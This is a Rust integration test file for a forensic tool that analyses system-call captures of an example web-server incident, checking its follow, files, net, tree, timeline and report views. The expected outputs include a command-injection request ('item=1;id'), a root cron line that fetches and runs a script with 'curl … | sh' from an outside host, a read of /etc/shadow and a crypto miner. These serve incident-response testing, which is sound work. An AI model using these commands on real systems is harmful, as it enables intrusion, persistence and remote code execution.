//! Views end to end, over the built-in example incident.
#![allow(clippy::unwrap_used)] // a failing test may panic

use std::path::Path;
use std::process::ExitCode;

use casebook_analyze::cli;

fn run(args: &[&str]) -> (ExitCode, Vec<u8>, String) {
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let code = cli::run(std::iter::once(&"casebook-analyze").chain(args), &mut out, &mut err);
    (code, out, String::from_utf8(err).unwrap())
}

fn example(folder: &Path) -> String {
    let path = folder.join("example.scap");
    std::fs::write(&path, casebook_fixtures::EXAMPLE).unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn follow_shows_both_directions_of_a_connection() {
    let folder = tempfile::tempdir().unwrap();
    let capture = example(folder.path());
    let (code, out, err) = run(&["follow", "--pid", "2215", "--fd", "13", &capture]);
    assert_eq!(code, ExitCode::SUCCESS);
    let expected = "\
2026-03-02T09:00:10.218000000Z #73 apache2[2215] read from fd 13 203.0.113.66:51514->10.244.1.17:80: 33 bytes
< POST /cart.php?item=1;id HTTP/1.1
2026-03-02T09:00:10.220250000Z #82 apache2[2215] write to fd 13 203.0.113.66:51514->10.244.1.17:80: 35 bytes
> HTTP/1.1 200 OK
>\x20
> uid=33(www-data)
";
    assert_eq!(String::from_utf8(out).unwrap(), expected);
    assert_eq!(err, "casebook-analyze: 1 reads and 1 writes moved 68 bytes, of which 68 are recorded\n");
}

#[test]
fn follow_gives_raw_bytes_to_other_programs() {
    let folder = tempfile::tempdir().unwrap();
    let capture = example(folder.path());
    let (_, out, _) =
        run(&["follow", "--form", "raw", "--direction", "write", "--filter", "fd.name startswith /etc/", &capture]);
    assert_eq!(out, b"*/5 * * * * root curl -s http://203.0.113.66/k|sh\n");
    let (_, out, _) = run(&["follow", "--form", "hex", "--filter", "fd.name = /cmd", &capture]);
    let hex = "> 00000000  23 21 2f 62 69 6e 2f 73  68 0a                    |#!/bin/sh.|";
    assert!(String::from_utf8(out).unwrap().lines().any(|line| line == hex));
}

#[test]
fn follow_says_when_nothing_moved_and_what_is_wrong() {
    let folder = tempfile::tempdir().unwrap();
    let capture = example(folder.path());
    let (code, out, err) = run(&["follow", "--pid", "1", &capture]);
    assert_eq!((code, out.as_slice()), (ExitCode::SUCCESS, b"".as_slice()));
    assert!(err.contains("nothing was read or written"), "{err}");
    let (code, _, err) = run(&["follow", "--filter", "proc.nome = x", &capture]);
    assert_eq!(code, ExitCode::from(2));
    assert!(err.contains("--filter") && err.contains("proc.nome"), "{err}");
    let (code, _, err) = run(&["follow", "/nowhere.scap"]);
    assert_eq!(code, ExitCode::from(4), "{err}");
}

#[test]
fn spectrograms_say_that_exit_halves_have_no_latency() {
    let folder = tempfile::tempdir().unwrap();
    let capture = example(folder.path());
    let (code, out, _) = run(&["spectrogram", &capture]);
    assert_eq!(code, ExitCode::SUCCESS);
    let out = String::from_utf8(out).unwrap();
    assert!(out.contains("latency of 0 of ") && out.contains("exit halves only"), "{out}");
    let (_, out, _) = run(&["spectrogram", "--json", &capture]);
    let report: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(report["events"], 0);
    assert!(report["events_without_latency"].as_u64().unwrap() > 100);
}

/// The first column with a name in a table of ours.
fn csv(args: &[&str]) -> Vec<Vec<String>> {
    let (code, out, err) = run(&[args, &["--example", "--format", "csv"]].concat());
    assert_eq!(code, ExitCode::SUCCESS, "{err}");
    let text = String::from_utf8(out).unwrap();
    text.lines().map(|line| line.split(',').map(|cell| cell.trim_matches('"').to_owned()).collect()).collect()
}

#[test]
fn files_are_ranked_and_chosen() {
    let all = csv(&["files", "-n", "0"]);
    assert_eq!(all[0][..5], ["path", "process", "lives", "container_id", "host"]);
    let column = |rows: &[Vec<String>], name: &str| -> Vec<String> {
        let at = rows[0].iter().position(|column| column == name).unwrap();
        rows[1..].iter().map(|row| row[at].clone()).collect()
    };
    let number = |rows: &[Vec<String>], name: &str| -> Vec<u64> {
        column(rows, name).iter().map(|value| value.parse().unwrap()).collect()
    };
    let bytes: Vec<u64> = number(&all, "read").iter().zip(number(&all, "written")).map(|(r, w)| r + w).collect();
    assert!(bytes.is_sorted_by(|a, b| a >= b) && bytes[0] > 0, "{bytes:?}");
    assert_eq!(csv(&["files", "-n", "3"]).len(), 4);
    let shadow = csv(&["files", "--path", "/etc/shadow", "--by", "use"]);
    assert!(column(&shadow, "path").iter().all(|path| path.contains("/etc/shadow")));
    assert!(column(&shadow, "process").contains(&"cat".to_owned()), "{shadow:?}");
    let changed = csv(&["files", "--changed", "-n", "0"]);
    assert!(changed.len() > 2 && changed.len() < all.len());
    assert!(number(&changed, "changes").iter().zip(number(&changed, "written")).all(|(c, w)| c + w > 0), "{changed:?}");
    let inside = csv(&["files", "--container", "web", "-n", "0"]);
    assert!(inside.len() > 2 && column(&inside, "container_id").iter().all(|id| id == "7f3a90c41be2"), "{inside:?}");
    let below = csv(&["files", "--pid", "5016", "--by", "process", "--sort", "first", "-n", "0"]);
    assert!(column(&below, "process").contains(&"cat".to_owned()) && below.len() < 40, "{below:?}");
    assert!(column(&below, "first").is_sorted());
    let (code, _, err) = run(&["files", "--example", "--process", "nobody"]);
    assert_eq!(code, ExitCode::SUCCESS);
    assert!(err.contains("nothing in the captures"), "{err}");
}

#[test]
fn connections_are_ranked_and_chosen() {
    let peers = csv(&["net", "-n", "0"]);
    let column = |rows: &[Vec<String>], name: &str| -> Vec<String> {
        let at = rows[0].iter().position(|column| column == name).unwrap();
        rows[1..].iter().map(|row| row[at].clone()).collect()
    };
    assert!(column(&peers, "peer").contains(&"203.0.113.66".to_owned()), "{peers:?}");
    assert!(column(&peers, "protocol").iter().all(|protocol| protocol != "unix"));
    // Of a server, the peer is its client.
    let at = column(&peers, "role").iter().position(|role| role == "server").unwrap();
    assert_ne!(column(&peers, "peer")[at], "10.244.1.17", "{peers:?}");
    let port = csv(&["net", "--port", "80", "--by", "connection", "-n", "0"]);
    assert!(port.len() > 1 && column(&port, "server_port").iter().all(|port| port == "80"), "{port:?}");
    let listening = csv(&["net", "--listening"]);
    assert!(column(&listening, "role").iter().all(|role| role == "listener"));
    let named = csv(&["net", "--peer", "203.0.113.", "--by", "process"]);
    assert!(column(&named, "process").contains(&"curl".to_owned()), "{named:?}");
    let (_, out, _) = run(&["net", "--example"]);
    let table = String::from_utf8(out).unwrap();
    assert!(table.starts_with("role") && !table.lines().next().unwrap().contains("host"), "{table}");
}

#[test]
fn trees_join_processes_users_containers_and_alerts() {
    let (code, out, err) = run(&["tree", "--example", "--pid", "5016", "--default-rules"]);
    assert_eq!(code, ExitCode::SUCCESS, "{err}");
    let out = String::from_utf8(out).unwrap();
    // Ancestors up to the first process, the process itself, what came of it; alerts below the process they are on.
    let lines: Vec<&str> = out.lines().collect();
    let place =
        |text: &str| lines.iter().position(|line| line.contains(text)).unwrap_or_else(|| panic!("{text}: {out}"));
    assert!(place("1 systemd") < place("2215 apache2"), "{out}");
    assert!(place("5016 bash -p") < place("5017 cat /etc/shadow"), "{out}");
    assert!(lines[place("5017 cat /etc/shadow") + 1].contains("Sensitive file read by an unexpected program"), "{out}");
    assert!(lines[place("5017 cat /etc/shadow")].contains(" root     web "), "{out}");
    assert!(!out.contains("5004 bash"), "the session of alice is another tree: {out}");
}

#[test]
fn trees_are_chosen_by_who_and_as_json() {
    let (_, out, _) = run(&["tree", "--example", "--who", "alice", "--json"]);
    let rows: Vec<serde_json::Value> =
        String::from_utf8(out).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let names: Vec<_> = rows.iter().map(|row| row["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["systemd", "sshd", "sshd", "bash", "ls", "df", "tail"]);
    assert_eq!(rows[6]["depth"], 4);
    assert_eq!(rows[6]["start"], "2026-03-02T09:00:07.716500000Z");
}

#[test]
fn timelines_stand_around_an_alert() {
    let args =
        ["timeline", "--example", "--around", "Crypto miner started", "--within", "10ms", "--kinds", "exec,alert,file"];
    let (code, out, err) = run(&args);
    assert_eq!(code, ExitCode::SUCCESS, "{err}");
    let out = String::from_utf8(out).unwrap();
    assert!(out.starts_with("── 2026-03-02\n"), "{out}");
    assert!(out.contains("exec      xmrig[5028]") && out.contains("Critical: Crypto miner started"), "{out}");
    assert!(!out.contains("/etc/shadow") && !out.contains("network"), "{out}");
    let times: Vec<&str> = out.lines().skip(1).map(|line| &line[..15]).collect();
    assert!(times.is_sorted() && times.len() > 5, "{out}");
    let (code, _, err) = run(&["timeline", "--example", "--around", "No such rule"]);
    assert_eq!(code, ExitCode::from(2), "{err}");
}

#[test]
fn timelines_join_captures_whose_clocks_differ() {
    let folder = tempfile::tempdir().unwrap();
    let (one, two) = (folder.path().join("web1.scap"), folder.path().join("web2.scap"));
    for path in [&one, &two] {
        std::fs::write(path, casebook_fixtures::EXAMPLE).unwrap();
    }
    let (one, two) = (one.to_str().unwrap(), two.to_str().unwrap());
    let (_, out, err) = run(&["timeline", one, two, "--kinds", "exec", "--offset", "web2=-250us", "--json"]);
    let rows: Vec<serde_json::Value> =
        String::from_utf8(out).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let shells: Vec<(&str, &str)> = rows
        .iter()
        .filter(|row| row["pid"] == 5016)
        .map(|row| (row["time"].as_str().unwrap(), row["capture"].as_str().unwrap()))
        .collect();
    assert_eq!(shells, [("2026-03-02T09:00:41.629000000Z", two), ("2026-03-02T09:00:41.629250000Z", one)], "{err}");
    let (_, _, err) = run(&["timeline", one, "--offset", "db=1s"]);
    assert!(err.contains("no capture and no host is called so"), "{err}");
}

/// A recording of `kubectl exec` from both sides: the capture of a node and the audit log of its API server.
fn kubectl_exec() -> [String; 2] {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/../fixtures/cases/recorded/T1609-kubectl-exec");
    ["node.scap.zst", "audit.jsonl"].map(|name| format!("{folder}/{name}"))
}

#[test]
fn the_kubernetes_user_is_at_the_shell_in_tree_and_report() {
    let [capture, log] = kubectl_exec();
    let (code, out, err) = run(&["tree", "--no-cache", "--default-rules", &capture, &log]);
    assert_eq!(code, ExitCode::SUCCESS, "{err}");
    let tree = String::from_utf8(out).unwrap();
    let row = |what: &str| tree.lines().find(|line| line.contains(what)).unwrap_or_else(|| panic!("{what}\n{tree}"));
    assert!(row("(k8s: alice@example.org, high)").contains(" sh"), "{tree}");
    assert!(row("(k8s: bob@example.org or (carol@example.org), low)").contains("cat /etc/shadow"), "{tree}");
    assert!(!row("cat /etc/hostname").contains("k8s:"), "a probe\n{tree}");
    let (_, out, _) = run(&["tree", "--no-cache", "--json", &capture, &log]);
    let shell =
        out.split(|byte| *byte == b'\n').filter_map(|line| serde_json::from_slice::<serde_json::Value>(line).ok());
    let shell =
        shell.into_iter().find(|row| row["k8s_user_name"] == "alice@example.org" && row["cmdline"] == "sh").unwrap();
    assert_eq!((&shell["k8s_user_via"], &shell["k8s_user_confidence"]), (&"exec".into(), &"high".into()));

    let folder = tempfile::tempdir().unwrap();
    for (name, wanted) in
        [("report.html", "by alice@example.org (exec, high)"), ("report.json", "\"k8s_user_confidence\":\"high\"")]
    {
        let path = folder.path().join(name).display().to_string();
        let (code, _, err) = run(&["report", "--no-cache", &capture, &log, "-o", &path]);
        assert_eq!(code, ExitCode::SUCCESS, "{err}");
        let page = std::fs::read_to_string(&path).unwrap();
        let page = if name.ends_with("json") { page.replace("\": ", "\":") } else { page };
        assert!(page.contains(wanted), "{name} has no {wanted}");
    }
}

#[test]
fn a_clock_of_the_api_server_that_is_off_is_put_right() {
    let [capture, log] = kubectl_exec();
    let folder = tempfile::tempdir().unwrap();
    let late = folder.path().join("late.jsonl").display().to_string();
    std::fs::write(&late, std::fs::read_to_string(&log).unwrap().replace("T08:2", "T07:2")).unwrap();
    let tree = |options: &[&str]| {
        let (code, out, err) = run(&[&["tree", "--no-cache"], options, &[&capture, &late]].concat());
        assert_eq!(code, ExitCode::SUCCESS, "{err}");
        String::from_utf8(out).unwrap()
    };
    assert!(!tree(&[]).contains("k8s:"));
    assert!(tree(&["--audit-offset", "3600"]).contains("(k8s: alice@example.org, high)"));
}

#[test]
fn a_terminal_has_a_progress_bar_and_the_answer() {
    let folder = tempfile::tempdir().unwrap();
    let capture = example(folder.path());
    let asked = format!(
        "{} sql --no-cache --no-pager {capture} 'SELECT COUNT(*) AS n, 7 * 6 AS life FROM events'",
        env!("CARGO_BIN_EXE_casebook-analyze")
    );
    // A terminal of its own, by the tool that every Linux has; no answer in a minute is none.
    let shown = std::process::Command::new("timeout")
        .args(["60", "script", "-qec", &asked, "/dev/null"])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    if shown.status.code() == Some(127) {
        eprintln!("skipped: no script(1)");
        return;
    }
    let text = String::from_utf8_lossy(&shown.stdout);
    assert_eq!(shown.status.code(), Some(0), "{text}");
    assert!(text.contains("42") && text.contains("(1 row)"), "{text}");
}
